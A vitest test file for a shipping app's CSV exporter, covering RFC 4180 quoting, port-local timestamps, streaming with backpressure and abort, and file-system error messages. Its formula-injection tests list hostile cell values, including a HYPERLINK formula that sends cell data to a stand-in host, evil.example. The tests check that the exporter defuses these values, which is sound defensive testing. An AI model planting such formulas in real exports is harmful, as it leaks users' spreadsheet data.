import {
  chmodSync,
  createWriteStream,
  existsSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { dateOnly, formatInZone, timestamp, type CellValue, type ExportColumn } from '../../src/core/export/columns';
import { writeCsv, type WriteCsvOptions } from '../../src/core/export/csv';
import { describeFsError, exportToFile } from '../../src/core/export/write-file';
import { QuaysideError } from '../../src/core/errors';
import { tempDir } from '../helpers/temp-dir';

interface Cell {
  id: number;
  value: CellValue;
}
const cellColumns: ExportColumn<Cell>[] = [
  { key: 'id', header: 'ID', value: (row) => row.id },
  { key: 'value', header: 'Value', value: (row) => row.value },
];

/** A Writable that keeps what it is given; `delay` makes it a slow disk. */
function collect(options: { delay?: boolean; highWaterMark?: number } = {}) {
  const chunks: Buffer[] = [];
  let maxBuffered = 0;
  const out = new Writable({
    highWaterMark: options.highWaterMark ?? 16 * 1024,
    write(chunk: Buffer, _encoding, callback) {
      chunks.push(chunk);
      maxBuffered = Math.max(maxBuffered, out.writableLength);
      if (options.delay === true) setImmediate(callback);
      else callback();
    },
  });
  return { out, buffer: () => Buffer.concat(chunks), maxBuffered: () => maxBuffered };
}

async function toCsv<Row>(options: Omit<WriteCsvOptions<Row>, 'out'>) {
  const sink = collect();
  const result = await writeCsv({ ...options, out: sink.out });
  return { result, buffer: sink.buffer(), text: sink.buffer().toString('utf8') };
}

/** Strict RFC 4180 reading: CRLF only, every record as wide as the header, quotes well formed. */
function parseCsv(text: string): string[][] {
  return parse(text, { bom: true, record_delimiter: '\r\n' });
}

function* generateCells(count: number, onClose?: () => void): Generator<Cell> {
  try {
    for (let id = 0; id < count; id++) yield { id, value: `Shipment ${id}` };
  } finally {
    onClose?.();
  }
}

function listFiles(dir: string): string[] {
  return readdirSync(dir).sort();
}

describe('writeCsv format', () => {
  it('writes RFC 4180 with CRLF, doubled quotes and quoted separators, after a UTF-8 BOM', async () => {
    const rows: Cell[] = [
      { id: 1, value: 'plain' },
      { id: 2, value: 'a,b' },
      { id: 3, value: 'say "hi"' },
      { id: 4, value: 'two\nlines' },
      { id: 5, value: 'cr\ronly' },
      { id: 6, value: 'crlf\r\nin cell' },
    ];
    const { buffer, text, result } = await toCsv({ rows, columns: cellColumns });
    expect([...buffer.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // A line break inside a cell is written as LF, whatever the text had.
    expect(text).toBe(
      '\uFEFF"ID",Value\r\n1,plain\r\n2,"a,b"\r\n3,"say ""hi"""\r\n4,"two\nlines"\r\n5,"cr\nonly"\r\n6,"crlf\nin cell"\r\n',
    );
    expect(result).toEqual({ rows: 6, bytes: buffer.length });
  });

  it('leaves the BOM out when asked, and quotes a first header Excel would take for SYLK', async () => {
    const { buffer, text, result } = await toCsv({ rows: [{ id: 1, value: 'x' }], columns: cellColumns, bom: false });
    expect(text).toBe('"ID",Value\r\n1,x\r\n');
    expect(result.bytes).toBe(buffer.length);
  });

  it('writes API keys or human headers', async () => {
    const columns = [
      ...cellColumns,
      ...timestamp<Cell>(
        'eta',
        'ETA',
        () => null,
        () => 'UTC',
      ),
    ];
    const keys = await toCsv({ rows: [], columns, headerStyle: 'keys' });
    const human = await toCsv({ rows: [], columns });
    expect(parseCsv(keys.text)).toEqual([['id', 'value', 'eta', 'eta_local']]);
    expect(parseCsv(human.text)).toEqual([['ID', 'Value', 'ETA (UTC)', 'ETA (port local time)']]);
  });

  it('formats each kind of cell value', async () => {
    const values: [CellValue, string][] = [
      [null, ''],
      [undefined, ''],
      [true, 'true'],
      [false, 'false'],
      [0, '0'],
      [-5, '-5'],
      [1234.5, '1234.5'],
      [Number.NaN, ''],
      [Number.POSITIVE_INFINITY, ''],
      [1e21, '1e+21'],
      [new Date('2026-03-01T14:05:00.789Z'), '2026-03-01T14:05:00Z'],
      [new Date('invalid'), ''],
      [['MSCU1234565', 'TGHU7654321'], 'MSCU1234565; TGHU7654321'],
      [[], ''],
    ];
    const { text } = await toCsv({ rows: values.map(([value], id) => ({ id, value })), columns: cellColumns });
    expect(parseCsv(text).slice(1)).toEqual(values.map(([, cell], id) => [String(id), cell]));
  });

  it('quotes an empty cell in a one-column export, so the row is not a blank line', async () => {
    const { text } = await toCsv({ rows: [{ id: 1, value: '' }], columns: cellColumns.slice(1) });
    expect(text).toBe('\uFEFFValue\r\n""\r\n');
    const empties: CellValue[] = [null, undefined, Number.NaN, []];
    const { text: unknowns } = await toCsv({
      rows: empties.map((value, id) => ({ id, value })),
      columns: cellColumns.slice(1),
    });
    expect(unknowns).toBe('\uFEFFValue\r\n""\r\n""\r\n""\r\n""\r\n');
  });

  it('refuses no columns and duplicate keys', async () => {
    await expect(toCsv({ rows: [], columns: [] })).rejects.toThrow(TypeError);
    await expect(toCsv({ rows: [], columns: [cellColumns[0]!, cellColumns[0]!] })).rejects.toThrow(/two columns/);
  });
});

describe('writeCsv formula injection', () => {
  const hostileStarts = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\tcmd',
    '\rcmd',
    // Leading whitespace is stripped by some importers and by TRIM(), so it does not protect.
    ' =1+1',
    '  @SUM(1)',
    '\u00a0-2+3',
    '\n=1+1',
    '\uFF1D1+1',
  ];

  it.each(hostileStarts)('prefixes a quote to %j', async (value) => {
    const { text } = await toCsv({ rows: [{ id: 1, value }], columns: cellColumns });
    // A CR is written as LF (see "cells a spreadsheet shows safely"); the quote stays in front.
    expect(parseCsv(text)[1]).toEqual(['1', `'${value.replace('\r', '\n')}`]);
  });

  it('leaves numbers, harmless text, joined lists and headers correct', async () => {
    const rows: Cell[] = [
      { id: 1, value: -5 },
      { id: 2, value: '-5' },
      { id: 3, value: 'a=b' },
      { id: 4, value: 'ops@forwarder.example' },
      { id: 5, value: ['=1+1', 'ok'] },
      { id: 6, value: ['ok', '=1+1'] },
    ];
    const columns: ExportColumn<Cell>[] = [cellColumns[0]!, { ...cellColumns[1]!, header: '=Value' }];
    const { text } = await toCsv({ rows, columns });
    expect(parseCsv(text)).toEqual([
      ['ID', "'=Value"],
      ['1', '-5'],
      ['2', "'-5"],
      ['3', 'a=b'],
      ['4', 'ops@forwarder.example'],
      ['5', "'=1+1; ok"],
      ['6', 'ok; =1+1'],
    ]);
  });

  it('round-trips text with nothing unsafe in it exactly', async () => {
    const hostile = [
      'Société Générale',
      '上海国际港务',
      '"quoted"',
      '""',
      'a,b,,c',
      'line1\nline2\n\nline3',
      '🚢📦 emoji 👩🏽‍💼',
      'עברית \u200Fevil\u200E عربي',
      ' leading and trailing ',
      'tab\tand  separator',
      `"${'x,"\n'.repeat(2560)}"`, // 10 KB of quotes, commas and newlines
      '',
    ];
    const rows = hostile.map((value, id) => ({ id, value }));
    const { text } = await toCsv({ rows, columns: cellColumns });
    expect(parseCsv(text).slice(1)).toEqual(hostile.map((value, id) => [String(id), value]));
  });
});

describe('timestamp and dateOnly columns', () => {
  interface Port {
    at: string | Date | number | null;
    zone: string | null;
  }
  const columns = [
    ...timestamp<Port>(
      'eta',
      'ETA',
      (row) => row.at,
      (row) => row.zone,
    ),
    dateOnly<Port>(
      'lfd',
      'LFD',
      (row) => row.at,
      (row) => row.zone,
    ),
  ];

  async function cellsFor(rows: Port[]): Promise<string[][]> {
    return parseCsv((await toCsv({ rows, columns })).text).slice(1);
  }

  it('writes UTC and the port local time across daylight saving changes', async () => {
    const la = 'America/Los_Angeles';
    expect(
      await cellsFor([
        { at: '2026-03-01T14:05:00Z', zone: la },
        { at: '2026-03-08T09:30:00Z', zone: la }, // before the clocks go forward
        { at: '2026-03-08T10:30:00Z', zone: la }, // after
        { at: '2026-11-01T08:30:00Z', zone: la }, // 01:30 the first time
        { at: '2026-11-01T09:30:00Z', zone: la }, // 01:30 again, an hour later
        { at: new Date('2026-03-03T16:00:00Z'), zone: 'Asia/Shanghai' },
        { at: Date.parse('2026-07-01T12:00:00+02:00'), zone: 'Europe/Amsterdam' },
      ]),
    ).toEqual([
      ['2026-03-01T14:05:00Z', '2026-03-01 06:05 PST', '2026-03-01'],
      ['2026-03-08T09:30:00Z', '2026-03-08 01:30 PST', '2026-03-08'],
      ['2026-03-08T10:30:00Z', '2026-03-08 03:30 PDT', '2026-03-08'],
      ['2026-11-01T08:30:00Z', '2026-11-01 01:30 PDT', '2026-11-01'],
      ['2026-11-01T09:30:00Z', '2026-11-01 01:30 PST', '2026-11-01'],
      ['2026-03-03T16:00:00Z', '2026-03-04 00:00 GMT+8', '2026-03-04'],
      ['2026-07-01T10:00:00Z', '2026-07-01 12:00 GMT+2', '2026-07-01'],
    ]);
  });

  it('leaves local cells empty for a missing or unknown zone, and both for an unclear instant', async () => {
    expect(
      await cellsFor([
        { at: '2026-03-01T14:05:00Z', zone: 'Mars/Olympus_Mons' },
        { at: '2026-03-01T14:05:00Z', zone: null },
        { at: '2026-03-01T14:05:00Z', zone: '' },
        { at: '2026-03-01 14:05:00', zone: 'UTC' }, // no zone: not guessed
        { at: null, zone: 'UTC' },
      ]),
    ).toEqual([
      ['2026-03-01T14:05:00Z', '', ''],
      ['2026-03-01T14:05:00Z', '', ''],
      ['2026-03-01T14:05:00Z', '', ''],
      ['', '', ''],
      ['', '', ''],
    ]);
  });

  it('agrees with Intl at every instant, including change days, in zones with odd rules', () => {
    const zones = ['America/Los_Angeles', 'America/Santiago', 'Europe/London', 'Australia/Lord_Howe', 'Asia/Kathmandu'];
    const start = Date.UTC(2026, 0, 1);
    for (const timeZone of zones) {
      const intl = new Intl.DateTimeFormat('en-US', {
        timeZone,
        hourCycle: 'h23',
        year: 'numeric',
        month: '2-digit',
        day: '2-digit',
        hour: '2-digit',
        minute: '2-digit',
        timeZoneName: 'short',
      });
      for (let ms = start; ms < start + 366 * 86_400_000; ms += 37 * 60_000 + 7_001) {
        const p = Object.fromEntries(intl.formatToParts(ms).map((part) => [part.type, part.value]));
        const expected = `${p.year}-${p.month}-${p.day} ${p.hour}:${p.minute} ${p.timeZoneName}`;
        expect(formatInZone(new Date(ms), timeZone), `${timeZone} at ${new Date(ms).toISOString()}`).toBe(expected);
      }
    }
  });

  it('agrees with Intl at every minute of the days the clocks change, and the millisecond before each', () => {
    const zones = [
      'America/New_York',
      'Australia/Sydney',
      'Australia/Lord_Howe',
      'Africa/Casablanca',
      'America/St_Johns',
      'Pacific/Chatham',
      'Asia/Kolkata',
    ];
    const dayMs = 86_400_000;
    let changeDays = 0;
    for (const timeZone of zones) {
      const intl = new Intl.DateTimeFormat('en-US', {
        timeZone,
        hourCycle: 'h23',
        year: 'numeric',
        month: '2-digit',
        day: '2-digit',
        hour: '2-digit',
        minute: '2-digit',
        timeZoneName: 'short',
      });
      const text = (ms: number) => {
        const p = Object.fromEntries(intl.formatToParts(ms).map((part) => [part.type, part.value]));
        return `${p.year}-${p.month}-${p.day} ${p.hour}:${p.minute} ${p.timeZoneName}`;
      };
      // A day whose start and end are not the same distance from the wall clock, or not the same zone name.
      const shift = (ms: number) =>
        `${Date.parse(`${text(ms).slice(0, 10)}T${text(ms).slice(11, 16)}Z`) - ms} ${text(ms).slice(17)}`;
      for (let day = Date.UTC(2026, 0, 1); day < Date.UTC(2027, 0, 1); day += dayMs) {
        if (shift(day) === shift(day + dayMs)) continue;
        changeDays++;
        for (let ms = day; ms < day + dayMs; ms += 60_000)
          for (const at of [ms, ms + 59_999])
            expect(formatInZone(new Date(at), timeZone), `${timeZone} at ${new Date(at).toISOString()}`).toBe(text(at));
      }
    }
    // New York, Sydney, Lord Howe, St John's and Chatham twice each, Casablanca's Ramadan twice
    // (a change at midnight UTC counts on both days it touches); Kolkata never.
    expect(changeDays).toBeGreaterThanOrEqual(12);
  });

  it('reads UTC text as Date.parse does, edge days and out-of-range fields included', () => {
    const [, local] = timestamp<string>(
      'at',
      'At',
      (row) => row,
      () => 'America/New_York',
    );
    const two = (n: number) => String(n).padStart(2, '0');
    for (const year of ['0050', '1969', '2024', '2026', '9999'])
      for (let month = 0; month <= 13; month++)
        for (const day of [0, 1, 28, 29, 30, 31, 32])
          for (const [hour, minute, second] of [
            [0, 0, 0],
            [23, 59, 59],
            [24, 0, 0],
            [12, 60, 0],
            [12, 0, 60],
          ]) {
            const text = `${year}-${two(month)}-${two(day)}T${two(hour!)}:${two(minute!)}:${two(second!)}Z`;
            const ms = Date.parse(text);
            const expected = Number.isNaN(ms) ? undefined : formatInZone(new Date(ms), 'America/New_York');
            expect(local!.value(text), text).toBe(expected);
          }
  });

  it('keeps calendar dates and refuses impossible ones', async () => {
    const lfd = dateOnly<Port>('lfd', 'LFD', (row) => row.at);
    const rows: Port[] = [
      { at: '2026-03-04', zone: null },
      { at: '2026-02-30', zone: null },
      { at: '2026-03-03T16:00:00Z', zone: null },
    ];
    const { text } = await toCsv({ rows, columns: [lfd] });
    expect(parseCsv(text)).toEqual([['LFD'], ['2026-03-04'], [''], ['2026-03-03']]);
  });
});

describe('writeCsv streaming', () => {
  it('reads an async iterable source', async () => {
    async function* fromDatabase(): AsyncGenerator<Cell> {
      for (let id = 0; id < 3; id++) {
        await new Promise((resolve) => setImmediate(resolve));
        yield { id, value: `row ${id}` };
      }
    }
    const { text, result } = await toCsv({ rows: fromDatabase(), columns: cellColumns });
    expect(result.rows).toBe(3);
    expect(parseCsv(text)).toEqual([
      ['ID', 'Value'],
      ['0', 'row 0'],
      ['1', 'row 1'],
      ['2', 'row 2'],
    ]);
  });

  it('reports progress about every 1000 rows and at the end', async () => {
    const seen: number[] = [];
    await toCsv({ rows: generateCells(2500), columns: cellColumns, onProgress: (n) => seen.push(n) });
    expect(seen).toEqual([1000, 2000, 2500]);
  });

  it('waits for a slow output to drain instead of buffering', async () => {
    const sink = collect({ delay: true, highWaterMark: 1024 });
    const result = await writeCsv({ rows: generateCells(50_000), columns: cellColumns, out: sink.out });
    expect(result.rows).toBe(50_000);
    // One batch of about 1000 short rows may sit in the buffer, never the whole export.
    expect(sink.maxBuffered()).toBeLessThan(64 * 1024);
    expect(sink.buffer().length).toBe(result.bytes);
  });

  it('stops on abort, rejects with an AbortError and closes the source', async () => {
    const controller = new AbortController();
    let closed = false;
    const sink = collect();
    const run = writeCsv({
      rows: generateCells(100_000, () => (closed = true)),
      columns: cellColumns,
      out: sink.out,
      signal: controller.signal,
      onProgress: (n) => n >= 2000 && controller.abort(),
    });
    await expect(run).rejects.toMatchObject({ name: 'AbortError' });
    expect(closed).toBe(true);
    expect(parseCsv(sink.buffer().toString()).length).toBeLessThan(4000);
  });

  it('rejects at once when already aborted, and while waiting for an output that never drains', async () => {
    const sink = collect();
    const signal = AbortSignal.abort();
    await expect(writeCsv({ rows: [], columns: cellColumns, out: sink.out, signal })).rejects.toMatchObject({
      name: 'AbortError',
    });
    expect(sink.buffer().length).toBe(0);

    const stuck = new Writable({ highWaterMark: 1, write: () => {} });
    const run = writeCsv({
      rows: generateCells(10),
      columns: cellColumns,
      out: stuck,
      signal: AbortSignal.timeout(50),
    });
    await expect(run).rejects.toMatchObject({ name: 'AbortError' });
  });

  it('rejects when the output fails or is closed, instead of crashing or hanging', async () => {
    const destroyed = new Writable({ highWaterMark: 1, write: () => {} });
    setTimeout(() => destroyed.destroy(), 20);
    await expect(writeCsv({ rows: generateCells(10), columns: cellColumns, out: destroyed })).rejects.toThrow(/closed/);

    const failing = new Writable({ write: (_chunk, _encoding, callback) => callback(new Error('cable cut')) });
    await expect(writeCsv({ rows: generateCells(5000), columns: cellColumns, out: failing })).rejects.toThrow(
      'cable cut',
    );
  });

  it.skipIf(!existsSync('/dev/full'))('reports a full disk in words a forwarder understands', async () => {
    const error: unknown = await writeCsv({
      rows: generateCells(200_000),
      columns: cellColumns,
      out: createWriteStream('/dev/full'),
    }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'ENOSPC' });
    expect(describeFsError(error).message).toBe(
      'The disk is full: the export was not saved. Free some space or choose another drive.',
    );
  });
});

describe('exportToFile', () => {
  it('writes the file, replacing an earlier export, and leaves no temp file', async () => {
    const dir = tempDir();
    const path = join(dir, 'shipments.csv');
    writeFileSync(path, 'old export');
    const result = await exportToFile(path, { rows: generateCells(3), columns: cellColumns });
    const written = readFileSync(path);
    expect(result).toEqual({ rows: 3, bytes: written.length, path });
    expect(parseCsv(written.toString())).toHaveLength(4);
    expect(listFiles(dir)).toEqual(['shipments.csv']);
  });

  it('keeps the earlier export and leaves no file when aborted or when a row fails', async () => {
    const dir = tempDir();
    const path = join(dir, 'shipments.csv');
    writeFileSync(path, 'old export');
    const controller = new AbortController();
    const aborted = exportToFile(path, {
      rows: generateCells(100_000),
      columns: cellColumns,
      signal: controller.signal,
      onProgress: (n) => n >= 3000 && controller.abort(),
    });
    await expect(aborted).rejects.toMatchObject({ name: 'AbortError' });

    const bug = new Error('no port for this row');
    const failing = exportToFile(join(dir, 'other.csv'), {
      rows: generateCells(5000),
      columns: [
        {
          key: 'x',
          header: 'X',
          value: (row) =>
            row.id === 4321
              ? (() => {
                  throw bug;
                })()
              : row.id,
        },
      ],
    });
    await expect(failing).rejects.toBe(bug);
    expect(readFileSync(path, 'utf8')).toBe('old export');
    expect(listFiles(dir)).toEqual(['shipments.csv']);
  });

  it('explains a missing folder', async () => {
    const path = join(tempDir(), 'gone', 'shipments.csv');
    const run = exportToFile(path, { rows: generateCells(1), columns: cellColumns });
    await expect(run).rejects.toThrow('The folder does not exist any more: choose another folder.');
    await expect(run).rejects.toBeInstanceOf(QuaysideError);
  });

  it('explains a read-only folder', async (context) => {
    const dir = tempDir();
    chmodSync(dir, 0o555);
    context.onTestFinished(() => chmodSync(dir, 0o755));
    let enforced = false;
    try {
      writeFileSync(join(dir, 'probe'), '');
      rmSync(join(dir, 'probe'));
    } catch {
      enforced = true;
    }
    // Root (as in CI containers) ignores folder permissions; sysfs refuses new files even to root.
    const target = enforced ? dir : existsSync('/sys/kernel') ? '/sys/kernel' : null;
    if (target === null) context.skip('folder permissions are not enforced for this user and there is no /sys to try');
    const run = exportToFile(join(target!, 'shipments.csv'), { rows: generateCells(1), columns: cellColumns });
    await expect(run).rejects.toThrow(/not allowed to save in this folder|read-only/);
    expect(listFiles(target!).filter((name) => name.includes('shipments'))).toEqual([]);
  });

  it('describes file-system errors and leaves other errors alone', () => {
    const systemError = (code: string) => Object.assign(new Error(`${code}: raw`), { code, syscall: 'open' });
    expect(describeFsError(systemError('ENOSPC')).message).toMatch(/^The disk is full/);
    expect(describeFsError(systemError('EACCES')).message).toMatch(/not allowed to save in this folder/);
    expect(describeFsError(systemError('EROFS')).message).toMatch(/read-only/);
    expect(describeFsError(systemError('EBUSY')).message).toMatch(/open in another program/);
    expect(describeFsError(systemError('EWHAT')).message).toBe('The export was not saved: the system reported EWHAT.');
    const described = describeFsError(systemError('EPERM'));
    expect(described).toBeInstanceOf(QuaysideError);
    expect(described.cause).toMatchObject({ code: 'EPERM' });

    const abort = new DOMException('cancelled', 'AbortError');
    expect(describeFsError(abort)).toBe(abort);
    const nodeError = Object.assign(new Error('destroyed'), { code: 'ERR_STREAM_DESTROYED' });
    expect(describeFsError(nodeError)).toBe(nodeError);
  });
});

describe('writeCsv at scale', () => {
  interface Shipment {
    id: number;
    ref: string;
    eta: number;
    zone: string;
    containers: string[];
  }
  const columns: ExportColumn<Shipment>[] = [
    { key: 'id', header: 'ID', value: (row) => row.id },
    { key: 'ref', header: 'Reference', value: (row) => row.ref },
    ...timestamp<Shipment>(
      'pod_eta_at',
      'ETA',
      (row) => row.eta,
      (row) => row.zone,
    ),
    { key: 'containers', header: 'Containers', value: (row) => row.containers },
  ];
  // About 300 bytes a row, so 200k rows (~60 MB) held in memory would be plain to see.
  const note = `Société Générale, "Rotterdam" ${'·'.repeat(100)}`;
  function* shipments(count: number): Generator<Shipment> {
    const start = Date.UTC(2026, 0, 1);
    for (let id = 0; id < count; id++) {
      const serial = String(id).padStart(7, '0');
      yield {
        id,
        ref: `BKG-${id} ${note}`,
        eta: start + id * 97_000,
        zone: id % 2 === 0 ? 'America/Los_Angeles' : 'Asia/Shanghai',
        containers: [`MSCU${serial}`, `TGHU${serial}`],
      };
    }
  }
  const mb = (n: number) => (n / 2 ** 20).toFixed(1);

  it('exports 200k rows to a file', async () => {
    const path = join(tempDir(), 'shipments.csv');
    const started = performance.now();
    const result = await exportToFile(path, { rows: shipments(200_000), columns });
    const seconds = (performance.now() - started) / 1000;
    console.log(`exportToFile, 200k rows: ${Math.round(result.rows / seconds)} rows/s, ${mb(result.bytes)} MB`);
    expect(result.rows).toBe(200_000);
    expect(statSync(path).size).toBe(result.bytes);
  });

  it('keeps memory flat while a slow disk holds the export back', async () => {
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    // Buffers live outside the JS heap, so output piling up would show in arrayBuffers only.
    const measure = () => {
      gc();
      const { heapUsed, arrayBuffers } = process.memoryUsage();
      return heapUsed + arrayBuffers;
    };
    let bytes = 0;
    const slowDisk = new Writable({
      write(chunk: Buffer, _encoding, callback) {
        bytes += chunk.length;
        setTimeout(callback, 10);
      },
    });
    const before = measure();
    let peak = before;
    const result = await writeCsv({
      rows: shipments(200_000),
      columns,
      out: slowDisk,
      onProgress: (n) => {
        if (n % 25_000 === 0) peak = Math.max(peak, measure());
      },
    });
    const after = measure();
    console.log(
      `slow disk, 200k rows: ${mb(bytes)} MB written, peak +${mb(peak - before)} MB, after +${mb(after - before)} MB`,
    );
    expect(result).toEqual({ rows: 200_000, bytes });
    expect(bytes).toBeGreaterThan(50 * 2 ** 20);
    expect(peak - before).toBeLessThan(30 * 2 ** 20);
    expect(after - before).toBeLessThan(30 * 2 ** 20);
  });
});
